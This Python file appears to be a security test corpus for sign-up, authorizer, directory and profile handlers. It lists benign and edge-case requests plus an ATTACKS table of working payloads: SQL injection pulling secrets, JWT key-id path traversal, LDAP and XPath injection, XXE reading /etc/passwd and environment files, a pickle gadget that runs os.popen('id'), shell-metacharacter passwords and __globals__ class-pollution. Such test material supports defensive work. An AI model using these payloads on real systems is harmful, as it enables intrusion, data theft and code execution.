"""Sign-up, sign-in, directories and profiles."""

import base64
import hmac
import json
import pickle

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.sixth import (
    ARABIC,
    EMOJI,
    ESSAY,
    HTMLISH,
    IRISH,
    JSON_TEXT,
    LDAPISH,
    LINK,
    PATHISH,
    PYTHONISH,
    QUOTED,
    REVIEW,
    SHELLISH,
    SQL_NOTE,
    TEMPLATISH,
    XMLISH,
    cognito,
    http,
    rest,
    sqs,
)

ID = "uid="
ADMIN = "accounts-admin-9009"
FIRST = "first-secret-of-the-accounts-function-0001"
SECOND = "second-secret-of-the-accounts-function-02"
CSS = "body { color: black; background: #ffffff }"
MINE = "a-secret-that-the-attacker-has-chosen-123"


def _signup(name: str, email: str) -> dict[str, object]:
    return cognito("PreSignUp_SignUp", "u-1", {"name": name, "email": email})


def _message(name: str) -> dict[str, object]:
    return cognito("CustomMessage_SignUp", "u-1", {"given_name": name}, codeParameter="{####}")


def _confirmed(name: str, email: str = "ann@example.org") -> dict[str, object]:
    return cognito("PostConfirmation_ConfirmSignUp", "u-1", {"sub": "s-1", "name": name, "email": email})


def _token(kid: str, secret: str, claims: dict[str, str]) -> str:
    parts = ({"alg": "HS256", "typ": "JWT", "kid": kid}, {"sub": "ann", **claims})
    text = ".".join(_encoded(json.dumps(part).encode()) for part in parts)
    return f"{text}.{_encoded(hmac.digest(secret.encode(), text.encode(), 'sha256'))}"


def _encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _table(kid: str, secret: str, **claims: str) -> dict[str, object]:
    token = _token(kid, secret, claims)
    return {"type": "TOKEN", "authorizationToken": f"Bearer {token}", "methodArn": "arn:aws:execute-api:x"}


def _file(kid: str, secret: str, **claims: str) -> dict[str, object]:
    token = _token(kid, secret, claims)
    return http("GET", "/me", headers={"authorization": f"Bearer {token}"})


def _uid(uid: str) -> dict[str, object]:
    return rest("GET", "/people", query={"uid": uid})


def _cn(cn: str) -> dict[str, object]:
    return rest("GET", "/people", query={"cn": cn})


def _pay(name: str, pin: str) -> dict[str, object]:
    return http("POST", "/pay", {"name": name, "pin": pin})


def _saml(text: str) -> dict[str, object]:
    return {
        **http("POST", "/saml"),
        "body": base64.b64encode(text.encode()).decode(),
        "isBase64Encoded": True,
    }


def _session(data: bytes) -> dict[str, object]:
    return http(
        "GET", "/", cookies=("theme=dark; it's", "session=" + base64.urlsafe_b64encode(data).decode())
    )


def _signed(text: str, *, is_right: bool = True) -> dict[str, object]:
    value = base64.urlsafe_b64encode(text.encode()).decode()
    signature = hmac.new(b"signing" if is_right else b"x", value.encode(), "sha256").hexdigest()[:16]
    return http("GET", "/", cookies=(f"s={value}.{signature}",))


def _profile(body: object) -> dict[str, object]:
    return rest("PATCH", "/profile", body)


def _field(path: str) -> dict[str, object]:
    return rest("GET", "/profile/{field}", ids={"field": path})


class _Runs:
    def __reduce__(self) -> tuple[object, ...]:
        return eval, ("__import__('os').popen('id').read()",)


REQUESTS = {
    "pre_signup": [
        _signup(IRISH, "siobhan.o'brien+lambda@example.org"),
        _signup("Robert'); DROP TABLE users;--", "bobby;tables@example.net"),
        _signup(ARABIC, "not an address <script>"),
    ],
    "custom_message": [_message(HTMLISH), _message(EMOJI), _message("{####} {username} %s " + QUOTED)],
    "post_confirmation": [
        _confirmed("O'Neil -- Sons; Select Ltd"),
        _confirmed(EMOJI, "a/*b*/@example.org"),
        _confirmed("'; DROP TABLE users; --"),
    ],
    "migrate_user": [
        cognito("UserMigration_Authentication", "x' OR '1'='1", {}, password="' or ''='"),
        cognito("UserMigration_Authentication", IRISH, {}, password='p$(id)`;|&"\\'),
    ],
    "authorizer_table": [
        _table("k-1", FIRST, name=IRISH),
        _table("k-1", MINE, name="' or 1=1 --"),
        {"type": "TOKEN", "authorizationToken": "Bearer select.from.users", "methodArn": "x"},
        _table("none; -- k/*2*/", FIRST),
    ],
    "authorizer_file": [
        _file("main", SECOND, path=PATHISH, next=LINK),
        _file("other..main", SECOND),
        _file("main", SECOND, role="admin' --", q=JSON_TEXT),
    ],
    "ldap_find": [_uid("ann"), _uid("o'brien & co"), _uid("a-b_c=d@example.org"), _uid("nobody | all")],
    "ldap_find_escaped": [_cn("Ann (HR)"), _cn("*)(uid=*))(|(uid=*"), _cn(LDAPISH), _cn("Tim O'Brien")],
    "xml_pay": [
        _pay("ann", "1111"),
        _pay("O'Neil", "2222"),
        _pay("' or '1'='1", "' or ''='"),
        _pay("//one", ".."),
    ],
    "xml_pay_variables": [_pay("O'Neil", "2222"), _pay('" or "1"="1', "x"), _pay("] | //pay", REVIEW)],
    "xml_find": [{"name": "ann"}, {"name": "x and (y) or @z"}, {"name": "ann; //pay"}],
    "saml": [
        _saml("<a:r xmlns:a='urn:x'><n>Siobhán O'Brien &amp; co</n><note>&lt;!ENTITY x&gt; -- </note></a:r>"),
        _saml('<!DOCTYPE r [<!ENTITY co "Tea and Mugs Ltd; or SYSTEM">]><r><n>&co;</n></r>'),
        _saml(f"<r><![CDATA[{PYTHONISH}]]></r>"),
    ],
    "contacts_xml": [
        sqs("<?xml version='1.0'?><c><n>O'Brien</n><n>&#x1F375; SYSTEM \"file:///etc/passwd\"</n></c>"),
        sqs(f"<c><!-- {SHELLISH.replace('--', '')} --><n><![CDATA[{HTMLISH}]]></n></c>"),
    ],
    "contacts_xml_plain": [
        sqs("<c><n>' or '1'='1</n><n>&lt;script&gt;</n></c>"),
        sqs('<!DOCTYPE c [<!ENTITY e SYSTEM "file:///etc/passwd">]><c><n>&e;</n></c>'),
        sqs(XMLISH),
    ],
    "session": [
        _session(pickle.dumps({"user": IRISH, "cart": [1, 2], "note": "os\nsystem"})),
        _session(pickle.dumps({"text": SHELLISH, "code": PYTHONISH}, 2)),
        http("GET", "/", cookies=("other=__reduce__",)),
    ],
    "session_signed": [
        _signed(json.dumps({"user": "O'Brien", "q": SQL_NOTE})),
        _signed("c__builtin__\neval\n(S'1'\ntR.", is_right=False),
        _signed(TEMPLATISH),
    ],
    "update_profile": [
        _profile({"name": IRISH, "bio": ESSAY}),
        _profile({"address": {"city": "L'Aquila; select"}, "class": "x", "init": {"globals": 1}}),
        _profile({"bio": "my __init__.__globals__ talk; " + PYTHONISH, "theme": {"dark": True}}),
    ],
    "profile_field": [
        _field("name"),
        _field("address.city"),
        _field("address.street.name"),
        _field("eval(1)"),
    ],
    "mail_in": [
        {
            "content": f'From: "O\'Brien, T. <x>" <tim@example.org>\r\nSubject: Re: {{{{7*7}}}}; Bcc: who?\r\n\r\n{SHELLISH}\r\nBcc: a@example.net\r\n'
        },
        {
            "content": 'From: a@example.org\nSubject: =?utf-8?b?8J+NtSB0ZWE=?=\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b--"\n\n'
            "--b--\nContent-Type: text/plain\n\nSELECT a meal or 1=1\n--b--\nContent-Type: text/x-sh\n"
            'Content-Disposition: attachment; filename="../../etc/it\'s (1).sh"\n\nid\n--b----\n'
        },
    ],
}
XXE = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
ATTACKS = [
    Attack("SQL", "post_confirmation", _confirmed("x", "' || (SELECT code FROM invites)) --"), "invite-5353"),
    Attack(
        "SQL",
        "post_confirmation",
        _confirmed('" || (SELECT group_concat(secret) FROM keys) || "'),
        FIRST,
    ),
    Attack(
        "SQL, in a token",
        "authorizer_table",
        _table(f"x' UNION SELECT '{MINE}' --", MINE, name="eve-the-admin"),
        "eve-the-admin",
    ),
    Attack(
        "SQL, in a token",
        "authorizer_table",
        _table(
            "' AND 0 UNION ALL SELECT kid || kid || kid || kid || kid || kid || kid || kid || kid || kid || kid FROM keys --",
            "k-1" * 11,
            name="eve-2",
        ),
        "eve-2",
    ),
    Attack("path, in a token", "authorizer_file", _file("../style.css", CSS, name="eve-3"), "eve-3"),
    Attack(
        "path, in a token",
        "authorizer_file",
        _file("/proc/sys/kernel/ostype", "Linux\n", name="eve-4"),
        "eve-4",
    ),
    Attack("LDAP", "ldap_find", _uid("*"), "O'Brien"),
    Attack("LDAP", "ldap_find", _uid("*)(!(uid=ann)"), "O'Brien"),
    Attack("LDAP", "ldap_find", _uid("*)(objectClass=*"), "O'Brien"),
    Attack("LDAP, blind", "ldap_find", _uid("ann)(userPassword=ldap-a*"), "Ann"),
    Attack("XPath", "xml_pay", _pay('" or "1"="1', '" or ""="'), "pay-neil-80"),
    Attack("XPath", "xml_pay", _pay('x" or 1=1]/pay/text() | //x["', "x"), "pay-neil-80"),
    Attack(
        "XPath, blind", "xml_pay", _pay('ann" and starts-with(../one[1]/pin, "1") or "a"="b', "x"), "pay-ann"
    ),
    Attack("XPath", "xml_find", {"name": "ann']/../one[pin='2222"}, "2222"),
    Attack("XXE", "saml", _saml(XXE), "root:x:0"),
    Attack(
        "XXE",
        "saml",
        _saml("<!DOCTYPE r [<!ENTITY % p \"<!ENTITY e SYSTEM '/etc/passwd'>\"> %p;]><r>&e;</r>"),
        "root:x:0",
    ),
    Attack("XXE", "contacts_xml", sqs(XXE), "root:x:0"),
    Attack(
        "XXE",
        "contacts_xml",
        sqs(
            '<?xml version="1.0"?><!DOCTYPE c [\n<!ENTITY f SYSTEM "file:///proc/self/environ">\n<!ENTITY h SYSTEM \'/etc/hosts\'>]><c>&h;</c>'
        ),
        "localhost",
    ),
    Attack("pickle", "session", _session(pickle.dumps(_Runs())), ID),
    Attack("pickle", "session", _session(b"cposix\nlistdir\n(S'/etc'\ntR."), "passwd"),
    Attack("pickle", "session", _session(b"\x80\x04\x8c\x03app\x8c\x0bADMIN_TOKEN\x93."), ADMIN),
    Attack(
        "attributes",
        "update_profile",
        _profile({"__init__": {"__globals__": {"ROLE": "admin-by-merge"}}}),
        "admin-by-merge",
    ),
    Attack(
        "attributes",
        "update_profile",
        _profile({"address": {"__class__": {"__init__": {"__globals__": {"ROLE": "admin-by-class"}}}}}),
        "admin-by-class",
    ),
    Attack("attributes", "profile_field", _field("__init__.__globals__"), ADMIN),
    Attack("attributes", "profile_field", _field("address.__class__.__init__.__globals__"), ADMIN),
]
